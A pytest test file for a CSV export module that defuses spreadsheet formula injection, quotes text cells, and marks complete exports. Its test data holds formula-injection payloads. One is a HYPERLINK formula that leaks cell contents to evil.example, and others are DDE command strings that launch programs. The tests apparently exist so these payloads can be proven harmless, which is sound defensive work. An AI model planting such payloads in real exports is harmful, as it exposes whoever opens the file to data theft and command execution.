"""The one CSV writer: spreadsheet formulas neutralised, every text cell quoted, numbers left numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from infrastructure.csv_export import csv_lines, csv_response, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_shown_as_text(payload):
    assert safe_cell(payload) == "'" + payload
    line = "".join(csv_lines([[payload]]))
    assert next(csv.reader(io.StringIO(line))) == ["'" + payload]


def test_every_text_cell_is_quoted_so_a_semicolon_locale_sees_one_cell():
    line = "".join(csv_lines([["x;=cmd|' /C calc'!A0;", "plain", 3, -0.25, Decimal("12.50")]]))
    assert line == '"x;\'=cmd|\' /C calc\'!A0;","plain",3,-0.25,12.50\r\n'
    # Read as a ';'-separated file (quotes honoured, as spreadsheets do): no cell is a formula.
    cells = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert not any(cell.lstrip().startswith("=") for cell in cells)


def test_a_formula_after_a_separator_inside_a_cell_is_neutralised_too():
    line = "".join(csv_lines([[1, "x;=cmd|' /C calc'!A0;", "a, +1", "ok;fine"]]))
    # A ';' spreadsheet honours quotes only at a field's start: the first field here is `1,"x`.
    cells = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert len(cells) > 1 and not any(cell.lstrip().startswith(("=", "+")) for cell in cells)
    assert next(csv.reader(io.StringIO(line))) == ["1", "x;'=cmd|' /C calc'!A0;", "a, '+1", "ok;fine"]


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) == ""


def test_response_streams_as_a_download():
    response = csv_response([["a"], ["=1"]], filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [["a"], ["'=1"]]


def test_an_export_with_an_end_marker_ends_with_its_exact_row_count():
    rows = [["reference", "amount"], *([f"R-{i}", i] for i in range(2500))]
    text = "".join(csv_lines(rows, end_marker=True))
    lines = text.split("\r\n")
    assert lines[-2:] == ["# END OF EXPORT: 2500 data rows", ""]
    assert len(lines) == 2503  # header, 2500 rows, the end line, and the empty string after the last \r\n
    assert "".join(csv_lines([["only", "header"]], end_marker=True)).endswith("# END OF EXPORT: 0 data rows\r\n")


def test_a_stream_that_fails_part_way_never_writes_the_end_line(caplog):
    def rows():
        yield ["reference"]
        for i in range(10):
            yield [f"R-{i}"]
        raise RuntimeError("database connection lost")

    response = csv_response(rows(), filename="cut.csv", end_marker=True)
    received = []
    with pytest.raises(RuntimeError, match="database connection lost"):
        for chunk in response.streaming_content:
            received.append(chunk)
    text = b"".join(received).decode("utf-8-sig")
    assert text.splitlines() == ['"reference"', *(f'"R-{i}"' for i in range(10))]
    assert "END OF EXPORT" not in text
    assert "CSV export cut.csv failed part way" in caplog.text


def test_a_long_stream_beats_the_workers_heartbeat(monkeypatch):
    from infrastructure import csv_export

    beats = []
    monkeypatch.setattr(csv_export, "HEARTBEAT_SECONDS", 0.0)
    csv_export.keep_worker_alive_with(lambda: beats.append(1))
    try:
        chunks = list(csv_lines([[i] for i in range(5000)], end_marker=True))
    finally:
        csv_export.keep_worker_alive_with(None)
    assert "".join(chunks).splitlines() == [*(str(i) for i in range(5000)), "# END OF EXPORT: 4999 data rows"]
    # Rows go out in chunks; the heartbeat is beaten after each full chunk when the interval has passed.
    assert len(beats) == 5000 // csv_export.ROWS_PER_CHUNK > 1


def test_gunicorn_workers_still_have_a_heartbeat():
    """``gunicorn.conf.py`` hands ``worker.notify`` to the exports: the sync worker must still have it and use the tmp file."""
    import inspect

    from gunicorn.workers.base import Worker
    from gunicorn.workers.sync import SyncWorker

    assert issubclass(SyncWorker, Worker)
    assert "self.tmp.notify()" in inspect.getsource(Worker.notify)
